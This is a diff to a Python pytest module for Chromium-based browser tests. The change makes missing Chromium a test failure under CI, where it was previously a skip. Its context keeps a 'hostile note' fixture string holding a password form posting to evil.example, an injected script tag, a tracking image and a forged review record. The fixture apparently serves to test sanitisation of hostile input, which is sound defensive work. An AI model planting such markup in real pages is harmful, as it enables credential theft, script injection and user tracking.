@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import re
 import zipfile
 from pathlib import Path
@@ -28,7 +29,17 @@ FAKE_RECORD = "- #99 **positive** by dr_chief"
 HOSTILE_NOTE = ('see <form action="http://evil.example/"><input type=password name=pw></form>'
                 f"<script>window.pwned = 1</script>\n![t](http://tracker.example/x.png)\n{FAKE_RECORD}")
 
-pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's Chromium is not installed at /usr/bin/chromium")
+MISSING = f"Debian's Chromium is not installed at {CHROMIUM}"
+
+
+@pytest.fixture(scope="module", autouse=True)
+def chromium() -> Path:
+    """Chromium, or a skip; under CI (CI=true) a failure, since these tests alone guard hostile notes."""
+    if not CHROMIUM.exists():
+        if os.environ.get("CI", "").lower() == "true":
+            pytest.fail(f"{MISSING}, and CI=true: the browser tests must run in CI")
+        pytest.skip(MISSING)
+    return CHROMIUM
 
 
 @pytest.fixture(scope="module")
